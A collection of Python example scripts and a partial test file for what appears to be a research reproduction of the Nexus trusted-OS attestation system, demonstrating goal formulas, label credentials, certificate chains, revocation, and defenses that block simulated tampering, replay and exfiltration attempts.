    print(f"[A] exported {len(exported.bundle['chains'])} chain(s), "
          f"digest {exported.digest[:16]}…")

    # Kernel B: pin A's platform root key, then admit the bundle.
    admin = client_b.open_session("admin")
    identity = client_a.info().platform
    admin.add_peer(PEER, identity["root_key"],
                   platform=identity["platform"])
    admission = admin.admit_remote(exported.bundle)
    print(f"[B] admitted remote principal {admission.remote_principal} "
          f"(local stand-in {admission.principal})")

    # A local twin with the very same credential, for comparison.
    twin = client_b.open_session("twin")
    twin.say("ok(door)")

    # One door, two goals — each naming its subject's speaker.
    door = admin.create_resource("/files/door", "file")
    kernel_b = service_b.kernel
    receipt = kernel_b.federation.find(admission.digest)

    admin.set_goal(door, "open", f"{twin.principal} says ok(door)")
    local_verdict = twin.authorize("open", door, wallet=True)

    admin.set_goal(door, "open",
                   f"{admission.remote_principal} says ok(door)")
    remote_decision = kernel_b.authorize_remote(admission.digest, "open",
                                                door.resource_id)
    print(f"local twin: allow={local_verdict.allow} "
          f"({local_verdict.reason})")
    print(f"admitted remote: allow={remote_decision.allow} "
          f"({remote_decision.reason})")
    assert local_verdict.allow == remote_decision.allow is True
    assert local_verdict.reason == remote_decision.reason
    print("same verdict for the remote principal as for the local twin")

    # Tampering with any certificate flips admission to a structured deny.
    tampered = json.loads(json.dumps(exported.bundle))
    tampered["chains"][0]["certs"][-1]["statement"] = \
        tampered["chains"][0]["certs"][-1]["statement"].replace(
            "ok(door)", "ok(everything)")
    try:
        admin.admit_remote(tampered)
    except ApiError as error:
        print(f"tampered bundle refused: {error.code}")

    # Warm admissions replay from the digest-keyed import cache.
    warm = admin.admit_remote(digest=exported.digest)
    print(f"warm re-admission cached={warm.cached} "
          f"(cold={kernel_b.federation.cold_admissions}, "
          f"hits={kernel_b.federation.cache_hits})")

    # Revoking the peer drops every principal it sponsored.
    peer_id = identity["peer_id"]
    dropped = kernel_b.revoke_peer(peer_id)
    print(f"peer revoked: dropped {dropped} admitted principal(s); "
          f"pid {receipt.pid} alive: {receipt.pid in kernel_b.processes}")


if __name__ == "__main__":
    main()
