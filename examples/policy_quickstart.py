#!/usr/bin/env python3
"""Policy control plane quickstart: declare, plan, apply, explain, roll back.

Instead of one ``setgoal`` per resource (§2.5), an operator declares a
versioned PolicySet — rules binding goal templates to resource selectors
— and drives it through the ``/api/v1/policy/`` endpoints: ``plan``
shows the exact dry-run diff, ``apply`` installs atomically, ``explain``
turns a deny into structured data (which goal, which missing label), and
``rollback`` restores a prior version.  The whole flow runs twice, over
the in-process and HTTP transports, and must agree exactly.

Run:  python examples/policy_quickstart.py
"""

from repro.api import NexusClient, NexusService
from repro.core.credentials import CredentialSet
from repro.policy import PolicyRule, PolicySet, Selector


def run_flow(client: NexusClient, transport_name: str):
    """Declare → plan → apply → deny+explain → tighten → rollback."""
    admin = client.open_session("compliance-admin")
    reader = client.open_session("auditor")
    for quarter in ("q1", "q2", "q3"):
        admin.create_resource(f"/reports/{quarter}", "file")

    # v1: one rule covers every report, present and future.
    v1 = PolicySet(name="reports", description="cleared readers only",
                   rules=(PolicyRule(
                       selector=Selector(prefix="/reports/", kind="file"),
                       operations=("read",),
                       goal=f"{admin.principal} says cleared(?Subject)"),))
    version1 = admin.put_policy(v1).version

    plan = admin.plan_policy("reports")
    print(f"[{transport_name}] dry-run v{plan.version}: "
          + ", ".join(f"{a.action} {a.resource}" for a in plan.actions))
    applied = admin.apply_policy("reports")
    print(f"[{transport_name}] applied v{applied.version}: "
          f"{applied.set_count} set, {applied.epoch_bumps} epoch bumps")

    # The reader presents a proof claiming a credential nobody issued:
    # the deny comes back as data naming the exact missing label.
    goal = reader.goal_for("/reports/q1", "read")
    claimed = CredentialSet([goal.replace("?Subject", reader.principal)])
    bundle = claimed.bundle_for(goal.replace("?Subject", reader.principal))
    denied = reader.explain("read", "/reports/q1", proof=bundle)
    print(f"[{transport_name}] deny explained: kind={denied.explanation.kind}"
          f" missing label: {denied.explanation.premise}")

    # The admin actually issues the label; the same proof now discharges.
    admin.say(f"cleared({reader.principal})")
    after_label = reader.authorize("read", "/reports/q1", proof=bundle)

    # v2 tightens policy per-resource via the {basename} template: each
    # report also needs a freshness label naming *that* report.
    v2 = PolicySet(name="reports", description="cleared + fresh",
                   rules=(PolicyRule(
                       selector=Selector(prefix="/reports/", kind="file"),
                       operations=("read",),
                       goal=f"{admin.principal} says cleared(?Subject) "
                            f"and {admin.principal} says fresh({{basename}})"),))
    admin.put_policy(v2)
    admin.apply_policy("reports")
    under_v2 = reader.authorize("read", "/reports/q1", wallet=True)
    v2_explained = reader.explain("read", "/reports/q1", wallet=True)

    # Rollback restores v1 — and with it the reader's prior verdict.
    rolled = admin.rollback_policy("reports", version1)
    versions = admin.policy_versions("reports")
    restored = reader.authorize("read", "/reports/q1", proof=bundle)
    print(f"[{transport_name}] v2 deny kind={v2_explained.explanation.kind};"
          f" rollback to v{rolled.version} (history {versions.versions},"
          f" active v{versions.active}) -> allow={restored.allow}")

    info = client.info()
    print(f"[{transport_name}] decision cache: {info.cache['hits']} hits, "
          f"{info.cache['misses']} misses, "
          f"{info.cache['goal_invalidations']} goal epoch bumps")
    return (tuple(a.action for a in plan.actions), applied.set_count,
            denied.explanation.kind, denied.verdict.allow,
            after_label.allow, under_v2.allow,
            v2_explained.explanation.kind, restored.allow)


def main() -> None:
    direct = run_flow(NexusClient.in_process(NexusService()), "in-process")
    wire = run_flow(NexusClient.over_http(NexusService()), "http")
    assert direct == wire, "transports must agree"
    print(f"identical control-plane results over both transports: "
          f"deny={direct[2]!r}, verdicts "
          f"{(direct[3], direct[4], direct[5], direct[7])}")


if __name__ == "__main__":
    main()
