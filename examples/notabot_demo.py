#!/usr/bin/env python3
"""Not-a-Bot: human-presence certificates against spam (§4).

The keyboard driver attests keypress counts; mail carries the TPM-rooted
certificate; the receiving classifier uses it as a feature.

Run:  python examples/notabot_demo.py
"""

from repro.apps.notabot import KeyboardDriver, MailClient, SpamClassifier
from repro.kernel import NexusKernel


def main() -> None:
    kernel = NexusKernel()
    driver = KeyboardDriver(kernel)
    alice = MailClient(kernel, driver, sender="alice@cornell.edu")
    classifier = SpamClassifier(root_key=kernel.tpm.ek_public)

    human = alice.compose("Hey Bob — lunch at the statler at noon?",
                          typed=True)
    bot = alice.compose("FREE MONEY click http://totally.legit.example now",
                        typed=False)

    for label, email in (("typed by a human", human),
                         ("injected by a bot", bot)):
        score = classifier.presence_score(email)
        verdict = classifier.classify(email)
        chain = email.presence_chain
        print(f"{label}:")
        print(f"  presence chain: {' -> '.join(chain.speaker_path())}")
        print(f"  attested statement: {chain.leaf().statement}")
        print(f"  presence score {score:.2f} -> {verdict}")

    # A certificate from a different platform does not transfer.
    other = NexusKernel(key_seed=4242)
    other_mail = MailClient(other, KeyboardDriver(other), sender="eve")
    forged = other_mail.compose("trust me", typed=True)
    stolen = human
    stolen.presence_chain = forged.presence_chain
    print(f"\nforeign-platform certificate: presence score "
          f"{classifier.presence_score(stolen):.2f} (rejected — wrong EK)")


if __name__ == "__main__":
    main()
