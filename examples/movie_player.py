#!/usr/bin/env python3
"""Time-sensitive content without platform lock-down (§2 + §4).

A content owner streams a movie to any player that *provably* lacks IPC
channels to the disk and network — the analytic basis for trust — instead
of whitelisting player hashes. Also demonstrates the time-sensitive file
from §2: a deadline enforced by an authority, not by revocable
credentials.

Run:  python examples/movie_player.py
"""

from repro.analysis import IPCConnectivityAnalyzer
from repro.apps.movieplayer import ContentServer, MoviePlayer
from repro.core.credentials import CredentialSet
from repro.errors import AccessDenied
from repro.kernel import ClockAuthority, NexusKernel
from repro.nal import parse
from repro.nal.proof import ProofBundle
from repro.nal.prover import Prover


def isolation_demo(kernel, analyzer, fs_port) -> None:
    print("== choice of player, no whitelists ==")
    server = ContentServer(kernel, analyzer, movie=b"8K-HDR-FRAMES" * 4)

    for name in ("vlc-clone", "homebrew-player"):
        player = MoviePlayer(kernel, name=name,
                             image=f"binary-of-{name}".encode())
        frames = player.request_stream(server, analyzer)
        print(f"  {name}: streamed {len(frames)} bytes "
              "(hash never disclosed)")

    leaky = MoviePlayer(kernel, name="screen-ripper")
    kernel.ipc_call(leaky.process.pid, fs_port.port_id)  # touches the disk
    try:
        leaky.request_stream(server, analyzer)
    except AccessDenied as exc:
        print(f"  screen-ripper: refused ({exc})")


def deadline_demo(kernel) -> None:
    print("\n== the time-sensitive file (§2) ==")
    clock = {"now": 20110301}
    kernel.register_authority("ntp", ClockAuthority(lambda: clock["now"]))
    owner = kernel.create_process("file-owner")
    reader = kernel.create_process("reader")
    secret = kernel.resources.create("/files/embargoed", "file",
                                     owner.principal)
    kernel.sys_setgoal(owner.pid, secret.resource_id, "read",
                       f"{owner.path} says TimeNow < 20110319")
    delegation = kernel.sys_say(
        owner.pid, f"NTP speaksfor {owner.path} on TimeNow").formula

    goal = parse(f"{owner.path} says TimeNow < 20110319")
    ntp_claim = parse("NTP says TimeNow < 20110319")
    prover = Prover([delegation], authorities={ntp_claim: "ntp"})
    bundle = ProofBundle(prover.prove(goal), credentials=(delegation,))

    decision = kernel.authorize(reader.pid, "read", secret.resource_id,
                                bundle)
    print(f"  on 2011-03-01: allowed={decision.allow} "
          f"(cacheable={decision.cacheable} — time is dynamic state)")
    clock["now"] = 20110320
    decision = kernel.authorize(reader.pid, "read", secret.resource_id,
                                bundle)
    print(f"  on 2011-03-20: allowed={decision.allow} "
          "(same credentials, the authority now says no)")


def main() -> None:
    kernel = NexusKernel()
    fs = kernel.create_process("fs-server")
    fs_port = kernel.create_port(fs.pid, "fs", handler=lambda *a: None)
    net = kernel.create_process("net-driver")
    kernel.create_port(net.pid, "net", handler=lambda *a: None)
    analyzer = IPCConnectivityAnalyzer(kernel)
    isolation_demo(kernel, analyzer, fs_port)
    deadline_demo(kernel)


if __name__ == "__main__":
    main()
