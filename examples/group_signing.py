#!/usr/bin/env python3
"""Group signatures and revocation, built from goal formulas (§3.3, §2.7).

A release-signing key that any admitted team member may use, but only the
designated key manager may export — two different goal formulas on two
operations of one VKEY. Plus the revocation pattern: membership is
granted as a revocable credential, so offboarding is one authority update.

Run:  python examples/group_signing.py
"""

from repro.core import GroupKeyService, RevocationService
from repro.errors import AccessDenied
from repro.kernel import NexusKernel
from repro.nal import parse


def main() -> None:
    kernel = NexusKernel()
    groups = GroupKeyService(kernel)
    owner = kernel.create_process("team-lead")
    dev = kernel.create_process("developer")
    ops = kernel.create_process("ops-engineer")
    intern = kernel.create_process("intern")

    groups.create_group_key(owner, "release", seed=404)
    print("created group key 'release' with separate sign/externalize goals")

    dev_wallet = groups.admit_member(owner, "release", dev)
    ops_wallet = groups.appoint_manager(owner, "release", ops)

    signature = groups.sign(dev, "release", b"release-2.4.tar.gz",
                            dev_wallet)
    groups.public_key("release").verify(b"release-2.4.tar.gz", signature)
    print("developer (member) signed the release; signature verifies")

    for subject, wallet, action in (
            (intern, dev_wallet, "sign"),      # not a member
            (dev, dev_wallet, "externalize"),  # member but not manager
            (ops, ops_wallet, "sign")):        # manager but not member
        try:
            if action == "sign":
                groups.sign(subject, "release", b"x", wallet)
            else:
                groups.externalize(subject, "release", wallet)
        except AccessDenied:
            print(f"{subject.name}: {action} denied (as the policy demands)")

    blob = groups.externalize(ops, "release", ops_wallet)
    print(f"ops (key manager) externalized the key: {len(blob)} bytes, "
          "wrapped under the TPM-rooted kernel key")

    # --- revocable access to a service, §2.7-style -----------------------
    print("\nrevocable credentials:")
    revocation = RevocationService(kernel)
    issuer = kernel.create_process("hr-system")
    resource = kernel.resources.create("/svc/payroll", "service",
                                       owner.principal)
    kernel.sys_setgoal(owner.pid, resource.resource_id, "use",
                       f"{issuer.path} says employed(dev-42)")
    wallet = revocation.issue(issuer, "employed(dev-42)")
    bundle = wallet.bundle_for(parse(f"{issuer.path} says employed(dev-42)"))
    print("  while employed:",
          kernel.authorize(dev.pid, "use", resource.resource_id,
                           bundle).allow)
    revocation.revoke(issuer, "employed(dev-42)")
    print("  after offboarding:",
          kernel.authorize(dev.pid, "use", resource.resource_id,
                           bundle).allow,
          "(same credentials, authority now refuses)")


if __name__ == "__main__":
    main()
