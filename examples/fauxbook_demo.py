#!/usr/bin/env python3
"""Fauxbook end to end: a privacy-preserving social network (§4.1).

Shows all three guarantees over real HTTP-shaped requests:
  * users share posts along social-graph edges only;
  * the (sandboxed) tenant application cannot read post contents;
  * the cloud provider's scheduler reservation is attestable.

Run:  python examples/fauxbook_demo.py
"""

from repro.apps.fauxbook import (
    EVIL_TENANT_SOURCE,
    FauxbookStack,
    ResourceAttestor,
    WebFramework,
)
from repro.errors import CobufError


def social_flow() -> None:
    print("== the social pipeline over HTTP ==")
    stack = FauxbookStack()
    for user in (b"alice:pw", b"bob:pw", b"carol:pw"):
        stack.request("POST", "/signup", body=user)
    alice = stack.request("POST", "/login", body=b"alice:pw").body.decode()
    bob = stack.request("POST", "/login", body=b"bob:pw").body.decode()
    carol = stack.request("POST", "/login", body=b"carol:pw").body.decode()

    stack.request("POST", "/friend", headers={"X-Session": alice},
                  body=b"bob")
    stack.request("POST", "/status", headers={"X-Session": alice},
                  body=b"had a great day at SOSP 2011")

    page = stack.request("GET", "/wall/alice", headers={"X-Session": bob})
    print(f"bob (friend) reads alice's wall -> {page.status}: "
          f"{page.body.decode()!r}")
    page = stack.request("GET", "/wall/alice", headers={"X-Session": carol})
    print(f"carol (stranger) reads alice's wall -> {page.status} "
          f"(blocked by the cobuf flow rule)")


def developer_confinement() -> None:
    print("\n== even the developers cannot read user data ==")
    framework = WebFramework(tenant_source=EVIL_TENANT_SOURCE)
    framework.create_user("alice", "pw")
    token = framework.login("alice", "pw")
    framework.post_status(token, b"my SSN is definitely not 078-05-1120")
    try:
        framework.tenant_call("steal", "alice")
    except CobufError as exc:
        print(f"malicious tenant exfiltration attempt -> CobufError: {exc}")


def resource_attestation() -> None:
    print("\n== resource attestation: SLAs as labels ==")
    stack = FauxbookStack()
    sched = stack.kernel.scheduler
    sched.add_client("fauxbook", tickets=300)
    sched.add_client("other-tenant", tickets=100)
    attestor = ResourceAttestor(stack.kernel)
    label = attestor.certify_reservation("fauxbook", min_fraction=0.7)
    print(f"labeling function examined the scheduler and issued:\n  {label}")
    sched.run(2000)
    print(f"measured delivery after 2000 ticks: "
          f"{sched.share_of('fauxbook'):.1%} "
          f"(reserved {sched.reserved_fraction('fauxbook'):.1%})")


if __name__ == "__main__":
    social_flow()
    developer_confinement()
    resource_attestation()
