#!/usr/bin/env python3
"""Attested storage: SSRs, crash consistency, and replay defense (§3.3).

Walks the whole §3.3 machinery: an encrypted SSR anchored in a VDIR, the
four-step flush surviving a power failure at its worst moment, and the
boot-abort on a replayed disk image.

Run:  python examples/attested_storage_demo.py
"""

from repro.errors import BootError, CrashError, ReplayError
from repro.storage import (
    Disk,
    SecureStorageRegion,
    VDIRRegistry,
    VKeyManager,
)
from repro.tpm import TPM


def main() -> None:
    disk = Disk()
    tpm = TPM(seed=99)
    tpm.take_ownership(seed=100)
    vdirs = VDIRRegistry(disk, tpm)
    vdirs.format()
    vkeys = VKeyManager(tpm=tpm)

    print("== an encrypted, replay-proof storage region ==")
    ssr = SecureStorageRegion("vault", disk, vdirs, size_blocks=4,
                              block_size=64,
                              vkey=vkeys.create("symmetric"))
    ssr.create()
    ssr.write(0, b"api-token=tok_9f31;cookie=s3cr3t")
    print(f"  stored {len(disk.list_files())} files on the (untrusted) disk")
    on_disk = disk.read_file("/ssr/vault/0")
    print(f"  plaintext visible on disk? {b'tok_9f31' in on_disk}")

    print("\n== power failure mid-flush ==")
    vdir_id = vdirs.create(initial=b"\x01" * 32)
    disk.schedule_crash(after_writes=1, mode="torn")  # dies at step (4)
    try:
        vdirs.write(vdir_id, b"\x02" * 32)
    except CrashError:
        print("  power lost during the four-step protocol!")
    recovered = VDIRRegistry.recover(disk, tpm)
    value = recovered.read(vdir_id)
    which = "new" if value == b"\x02" * 32 else "old"
    print(f"  recovery found a consistent state: the {which} value "
          "(never a hybrid)")

    print("\n== offline replay attack ==")
    image = disk.snapshot()
    recovered.write(vdir_id, b"\x03" * 32)
    disk.restore(image)  # attacker re-images the disk while dormant
    try:
        VDIRRegistry.recover(disk, tpm)
    except BootError as exc:
        print(f"  boot aborted: {exc}")

    print("\n== SSR replay detection ==")
    disk2 = Disk()
    tpm2 = TPM(seed=7)
    tpm2.take_ownership(seed=8)
    vdirs2 = VDIRRegistry(disk2, tpm2)
    vdirs2.format()
    region = SecureStorageRegion("counter", disk2, vdirs2, size_blocks=1,
                                 block_size=64)
    region.create()
    region.write(0, b"balance=100")
    old_blocks = disk2.snapshot()
    region.write(0, b"balance=0  ")
    for name, data in old_blocks.items():
        if name.startswith("/ssr/"):
            disk2.write_file(name, data)  # replay the richer balance
    reopened = SecureStorageRegion("counter", disk2, vdirs2, size_blocks=1,
                                   block_size=64)
    try:
        reopened.open(region.vdir_id)
    except ReplayError as exc:
        print(f"  replayed SSR rejected: {exc}")


if __name__ == "__main__":
    main()
