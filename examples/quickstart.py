#!/usr/bin/env python3
"""Quickstart: the attestation service API over two transports.

Walks the paper's core loop (Figure 1) through the versioned service
facade: open sessions (no raw pids), protect a resource with a goal
formula via ``setgoal``, issue a credential via ``say``, construct a
proof client-side, and ask the guard — first in-process, then over the
HTTP wire transport, with identical verdicts. Finally a label leaves
the machine as a TPM-rooted certificate chain and is re-admitted
through the API.

Run:  python examples/quickstart.py
"""

from repro.api import NexusClient, NexusService
from repro.core.credentials import CredentialSet


def run_flow(client: NexusClient, transport_name: str):
    """The same say → setgoal → authorize flow on any transport."""
    owner = client.open_session("report-owner")
    reader = client.open_session("report-reader")

    report = owner.create_resource("/files/expense-report", "file")

    # Default policy first: only the owner may touch a goal-less resource.
    before = reader.authorize("read", report)

    # The owner attaches the paper-style goal (§2: the CBA example) and
    # issues the credential through the say endpoint.
    owner.set_goal(report, "read",
                   f"{owner.principal} says completedTraining(?Subject)")
    credential = owner.say(f"completedTraining({reader.principal})")

    # The reader fetches the goal, instantiates it, and builds the proof
    # client-side — the guard only checks.
    goal = reader.goal_for(report, "read")
    concrete = goal.replace("?Subject", reader.principal)
    bundle = CredentialSet([credential.formula]).bundle_for(concrete)

    first = reader.authorize("read", report, proof=bundle)
    for _ in range(100):
        repeat = reader.authorize("read", report, proof=bundle)

    stats = reader.stats()
    print(f"[{transport_name}] before goal: allow={before.allow}; "
          f"with proof: allow={first.allow}; repeat: allow={repeat.allow} "
          f"({repeat.reason}); session verdicts: "
          f"{stats.allowed} allowed / {stats.denied} denied")
    return owner, reader, report, (before.allow, first.allow, repeat.allow)


def main() -> None:
    # One flow per transport, each against a fresh service, so the
    # verdict sequences are directly comparable.
    in_process_service = NexusService()
    direct_client = NexusClient.in_process(in_process_service)
    _, _, _, direct_verdicts = run_flow(direct_client, "in-process")

    wire_service = NexusService()
    http_client = NexusClient.over_http(wire_service)
    owner, reader, report, wire_verdicts = run_flow(http_client, "http")

    assert direct_verdicts == wire_verdicts, "transports must agree"
    print(f"identical verdicts over both transports: {direct_verdicts}")

    # A label leaves the machine as a TPM-rooted certificate chain and is
    # re-imported over HTTP, attributed to the attesting platform (§2.4).
    label = owner.say(f"completedTraining({reader.principal})")
    chain = owner.externalize(label.handle)
    imported = reader.import_chain(chain)
    print("externalized chain re-imported over http:")
    print(f"  speaker: {imported.speaker}")
    print(f"  wallet can discharge it: {reader.prove(imported.formula)}")

    transport = http_client.transport
    print(f"wire traffic: {transport.requests_sent} requests, "
          f"{transport.bytes_sent} bytes out, "
          f"{transport.bytes_received} bytes in")


if __name__ == "__main__":
    main()
