#!/usr/bin/env python3
"""Quickstart: labels, goals, proofs, and guarded access in 60 lines.

Walks the paper's core loop (Figure 1): an owner protects a resource with
a goal formula, issues a credential via the ``say`` system call, and a
client constructs a proof that the guard checks — first a miss (guard
upcall), then decision-cache hits.

Run:  python examples/quickstart.py
"""

from repro import CredentialSet, Nexus


def main() -> None:
    nexus = Nexus()
    kernel = nexus.kernel

    # Two isolated protection domains (processes).
    owner = nexus.launch("report-owner")
    client = nexus.launch("report-reader")
    print(f"launched {owner.path} and {client.path}")

    # A kernel resource: an expense report.
    report = kernel.resources.create("/files/expense-report", "file",
                                     owner.principal,
                                     payload=b"Q2 travel: $1,942.17")

    # Default policy first: only the owner may touch a goal-less resource.
    denied = nexus.authorize(client, "read", report)
    print(f"before any goal: client read allowed? {denied.allow}  "
          f"({denied.reason})")

    # The owner attaches the paper-style goal: access for anyone the
    # owner says completed accounting training (§2: the CBA example).
    nexus.set_goal(owner, report, "read",
                   f"{owner.path} says completedTraining(?Subject)")

    # The owner issues the credential through the say syscall: a label,
    # unforgeable without any cryptography.
    label = nexus.say(owner, f"completedTraining({client.path})")
    print(f"label issued: {label.formula}")

    # The client builds the proof from its wallet and asks again.
    wallet = CredentialSet([label])
    decision = nexus.request(client, "read", report, wallet)
    print(f"with proof: allowed? {decision.allow}  cacheable? "
          f"{decision.cacheable}")

    # Subsequent requests hit the kernel decision cache — no guard upcall.
    upcalls_before = kernel.default_guard.upcalls
    for _ in range(1000):
        nexus.request(client, "read", report, wallet)
    print(f"1000 repeat requests took "
          f"{kernel.default_guard.upcalls - upcalls_before} guard upcalls "
          f"(decision cache hits: {kernel.decision_cache.stats.hits})")

    # The label can leave the machine as a TPM-rooted certificate chain.
    chain = nexus.kernel.externalize_label(label)
    chain.verify()
    print("externalized chain:", " -> ".join(chain.speaker_path()))


if __name__ == "__main__":
    main()
