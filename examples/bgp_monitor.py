#!/usr/bin/env python3
"""BGP external security monitors (§4): synthetic trust for routing.

Three ASes exchange routes. AS 300's legacy speaker is straddled by a
verifier proxy that blocks route fabrication and false origination and
issues a conformance label while the speaker behaves.

Run:  python examples/bgp_monitor.py
"""

from repro.apps.bgp import Advertisement, BGPSpeaker, BGPVerifier
from repro.errors import PolicyViolation
from repro.kernel import NexusKernel

OWNERSHIP = {"10.0.0.0/8": 100, "172.16.0.0/12": 200}


def main() -> None:
    kernel = NexusKernel()
    speaker = BGPSpeaker(300)
    verifier = BGPVerifier(speaker, OWNERSHIP, kernel=kernel)

    # Routes arrive from peers (the monitor observes the inbound side).
    verifier.deliver_inbound(Advertisement("10.0.0.0/8", (150, 120, 100)),
                             from_as=150)
    verifier.deliver_inbound(Advertisement("10.0.0.0/8", (160, 100)),
                             from_as=160)

    adv = verifier.emit("10.0.0.0/8")
    print(f"honest re-advertisement passed: AS-path {adv.as_path}")
    label = verifier.conformance_label()
    print(f"conformance label: {label}")

    print("\nnow the speaker turns malicious...")
    speaker.lie_shorten_paths = True
    try:
        verifier.emit("10.0.0.0/8")
    except PolicyViolation as exc:
        print(f"  fabricated short route blocked: {exc}")

    speaker.lie_shorten_paths = False
    speaker.lie_originate.add("172.16.0.0/12")
    try:
        verifier.emit("172.16.0.0/12")
    except PolicyViolation as exc:
        print(f"  false origination blocked: {exc}")

    print(f"\nviolations recorded: "
          f"{[(v.rule, v.advertisement.prefix) for v in verifier.violations]}")
    print(f"conformance label after violations: "
          f"{verifier.conformance_label()}")


if __name__ == "__main__":
    main()
