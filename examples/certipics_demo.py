#!/usr/bin/env python3
"""CertiPics + TruDocs: certified document handling (§4).

CertiPics edits an image while emitting a hash-chained, signed log of
every transformation; a verifier replays the log and rejects forbidden
edits. TruDocs certifies that a quoted excerpt is derivable from its
source under a use policy.

Run:  python examples/certipics_demo.py
"""

from repro.apps.certipics import CertiPics, Image, verify_log
from repro.apps.trudocs import Document, TruDocs, UsePolicy
from repro.crypto.rsa import generate_keypair
from repro.errors import IntegrityError, PolicyViolation
from repro.kernel import NexusKernel


def certipics_demo() -> None:
    print("== CertiPics: certified image edits ==")
    key = generate_keypair(512, seed=5150)
    source = Image.from_rows([[(x * 7 + y * 13) % 256 for x in range(16)]
                              for y in range(12)])

    session = CertiPics(source, key)
    session.apply("crop", 2, 2, 12, 8)
    session.apply("grayscale")
    session.apply("resize", 24, 16)
    log = session.finalize()
    verify_log(source, session.current, log, key.public)
    print(f"  legitimate pipeline: {len(log.entries)} ops, log verifies")

    doctored = CertiPics(source, key)
    doctored.apply("clone", (0, 0, 4, 4), (8, 8))  # the scandal edit
    bad_log = doctored.finalize()
    try:
        verify_log(source, doctored.current, bad_log, key.public)
    except PolicyViolation as exc:
        print(f"  doctored pipeline: {exc}")

    log.entries.pop(0)  # try to hide the crop
    try:
        verify_log(source, session.current, log, key.public)
    except IntegrityError as exc:
        print(f"  tampered log: {exc}")


def trudocs_demo() -> None:
    print("\n== TruDocs: excerpts that speak for their documents ==")
    kernel = NexusKernel()
    trudocs = TruDocs(kernel)
    report = Document(
        name="inspector-report",
        text=("The inspector found the facility compliant in general. "
              "However, the cooling system requires immediate repair "
              "before the next operating cycle."),
        policy=UsePolicy(max_excerpt_words=20))

    fair = ("The inspector found the facility compliant ... the cooling "
            "system requires immediate repair")
    label = trudocs.certify(report, fair)
    print(f"  fair excerpt certified: {label}")

    misleading = "the facility compliant ... The inspector found"
    try:
        trudocs.certify(report, misleading)
    except PolicyViolation as exc:
        print(f"  out-of-order splice refused: {exc}")

    fabricated = "the facility requires immediate closure"
    try:
        trudocs.certify(report, fabricated)
    except PolicyViolation as exc:
        print(f"  fabrication refused: {exc}")


if __name__ == "__main__":
    certipics_demo()
    trudocs_demo()
