#!/usr/bin/env python3
"""The §2 credentials-based-authorization example: "a user whose identity
is vetted by any two of: a stored password service, a retinal scan
service, and an identity certificate stored on a USB dongle".

CBA's flexibility means the *client* picks which two factors to
discharge; the policy owner never enumerates the combinations.

Run:  python examples/two_of_three_auth.py
"""

from repro import CredentialSet, Nexus
from repro.errors import ProofError

FACTORS = ("PasswordSvc", "RetinaSvc", "DongleSvc")


def two_of_three_goal(owner_path: str, subject: str) -> str:
    """The goal formula: any two distinct factor services vouch."""
    pairs = []
    for i, a in enumerate(FACTORS):
        for b in FACTORS[i + 1:]:
            pairs.append(f"({a} says vetted({subject}) and "
                         f"{b} says vetted({subject}))")
    return " or ".join(pairs)


def main() -> None:
    nexus = Nexus()
    kernel = nexus.kernel
    owner = nexus.launch("account-owner")
    user = nexus.launch("login-session")
    account = kernel.resources.create("/accounts/alice", "account",
                                      owner.principal)

    goal = two_of_three_goal(owner.path, user.path)
    nexus.set_goal(owner, account, "login", goal)
    print("goal formula:")
    print(f"  {goal}\n")

    # Each factor service is its own process issuing its own label.
    services = {name: nexus.launch(name.lower()) for name in FACTORS}
    handoffs = []
    for name, process in services.items():
        # The well-known service names delegate to the actual processes
        # (in a real deployment: hash attestation of the service binary).
        handoffs.append(kernel.say_as(
            name, f"{process.path} speaksfor {name}",
            store=kernel.default_labelstore(user.pid)).formula)

    def attempt(factors):
        wallet = CredentialSet(handoffs)
        for factor in factors:
            label = nexus.say(services[factor], f"vetted({user.path})")
            wallet.add(label)
        decision = nexus.request(user, "login", account, wallet)
        print(f"  factors {factors}: allowed={decision.allow}")

    print("the user picks whichever two factors are convenient:")
    attempt(["PasswordSvc", "DongleSvc"])
    attempt(["RetinaSvc", "PasswordSvc"])
    print("one factor is not enough:")
    attempt(["PasswordSvc"])


if __name__ == "__main__":
    main()
