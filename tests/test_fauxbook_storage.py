"""Tests for the §4.1 file-level policies: private / public / friends."""

import pytest

from repro.apps.fauxbook import WebFramework
from repro.apps.fauxbook.app import FAUXBOOK_TENANT_SOURCE
from repro.apps.fauxbook.storage import FauxbookStorage
from repro.errors import AccessDenied, AppError
from repro.fs import FileServer
from repro.kernel import NexusKernel
from repro.nal import parse


@pytest.fixture
def world():
    kernel = NexusKernel()
    fs = FileServer(kernel)
    framework = WebFramework(tenant_source=FAUXBOOK_TENANT_SOURCE)
    storage = FauxbookStorage(kernel, fs, framework)
    for user in ("alice", "bob", "carol"):
        framework.create_user(user, f"pw-{user}")
    tokens = {user: framework.login(user, f"pw-{user}")
              for user in ("alice", "bob", "carol")}
    alice_token = tokens["alice"]
    framework.add_friend(alice_token, "bob")
    return kernel, framework, storage, tokens


class TestPrivatePolicy:
    def test_owner_reads_own_private_file(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "diary.txt", b"dear diary",
                      policy="private")
        assert storage.read(tokens["alice"], "alice", "diary.txt") == \
            b"dear diary"

    def test_friend_cannot_read_private(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "diary.txt", b"dear diary",
                      policy="private")
        with pytest.raises(AccessDenied):
            storage.read(tokens["bob"], "alice", "diary.txt")

    def test_private_decision_never_cached(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "diary.txt", b"x", policy="private")
        storage.read(tokens["alice"], "alice", "diary.txt")
        storage.read(tokens["alice"], "alice", "diary.txt")
        # Dynamic authority state: every read goes to the guard.
        assert kernel.decision_cache.stats.hits == 0


class TestFriendsPolicy:
    def test_owner_reads(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "wall.txt", b"post",
                      policy="friends")
        assert storage.read(tokens["alice"], "alice", "wall.txt") == b"post"

    def test_friend_reads(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "wall.txt", b"post",
                      policy="friends")
        assert storage.read(tokens["bob"], "alice", "wall.txt") == b"post"

    def test_stranger_denied(self, world):
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "wall.txt", b"post",
                      policy="friends")
        with pytest.raises(AccessDenied):
            storage.read(tokens["carol"], "alice", "wall.txt")

    def test_unfriending_is_immediate(self, world):
        """No revocation infrastructure: retracting the edge changes the
        authority's answer on the next query (§2.7)."""
        kernel, framework, storage, tokens = world
        storage.store(tokens["alice"], "wall.txt", b"post",
                      policy="friends")
        storage.read(tokens["bob"], "alice", "wall.txt")
        framework.graph._edges.discard(frozenset(("alice", "bob")))
        with pytest.raises(AccessDenied):
